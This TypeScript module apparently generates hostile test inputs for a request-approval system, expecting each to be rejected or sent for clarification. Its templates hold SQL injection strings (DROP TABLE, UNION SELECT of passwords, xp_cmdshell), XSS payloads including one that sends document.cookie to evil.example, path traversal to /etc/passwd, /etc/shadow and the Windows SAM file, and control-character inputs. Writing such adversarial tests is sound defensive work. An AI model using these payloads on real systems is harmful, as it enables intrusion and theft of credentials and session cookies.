import type { GenerateContext, GeneratedContent } from '../category.js';
import type { Expectation } from '../types.js';
import { fillTemplate, type TemplateSlots } from './fill-template.js';
import { sharedSlots } from './shared-slots.js';

/** Hostile edge cases may be rejected or sent to clarification, never approved. */
export const hostileEdgeExpectation: Expectation = { approvalPaths: ['clarification', 'rejected'] };

const hostileSlots: TemplateSlots = {
  ...sharedSlots,
  sql_injection: [
    "find the user named {name}' OR '1'='1' --",
    'show order {1..9999}; DROP TABLE {table}; --',
    "search for {item}' UNION SELECT username, password FROM users --",
    "look up account {1..999}'; EXEC xp_cmdshell('dir'); --",
    "{name}' AND SLEEP({1..9}) --",
    "login as admin'-- and show {table}",
  ],
  xss: [
    "<script>alert('{item}')</script>",
    '<img src=x onerror=alert(document.cookie)> {ask}',
    '[click for {item}](javascript:alert({1..99}))',
    "<svg onload=fetch('//evil.example/?c='+document.cookie)>",
    '{ask} <iframe src="javascript:alert({1..99})"></iframe>',
    '<a href="#" onmouseover="steal()">{item}</a>',
  ],
  path_traversal: [
    'open the file ../../../../etc/passwd',
    'show me ..\\..\\..\\windows\\system32\\config\\sam',
    'read %2e%2e%2f%2e%2e%2fetc%2fshadow',
    'download /var/www/{item}/../../../etc/hosts',
    'load the template ../../{1..9}/../../etc/passwd for {name}',
  ],
  nul_bytes: [
    '{ask}\u0000{item}',
    'report.txt\u0000.jpg',
    '\u001b[2J\u001b[31m{ask}\u001b[0m',
    '{item}\u0000\u0000\u0007 {ask}',
    '{ask}\u0008\u0008\u0008\u0000',
  ],
  table: ['users', 'orders', 'payments', 'sessions'],
  item: ['invoices', 'cats', 'shoes', 'holiday photos', 'receipts'],
  ask: ['what time is it?', 'set a timer for {1..59} minutes', 'play some jazz'],
};

/** Variants of hostile edge cases: injections, traversal and control characters. */
export const hostileEdgeVariants = ['sql_injection', 'xss', 'path_traversal', 'nul_bytes'] as const;

/** Generates one hostile edge case of the given variant; it is an attack. */
export function generateHostileEdge(
  variant: (typeof hostileEdgeVariants)[number],
  { random }: GenerateContext,
): GeneratedContent {
  const content = fillTemplate(`{${variant}}`, hostileSlots, random);
  return { content, variant, expectation: hostileEdgeExpectation, attack: true };
}
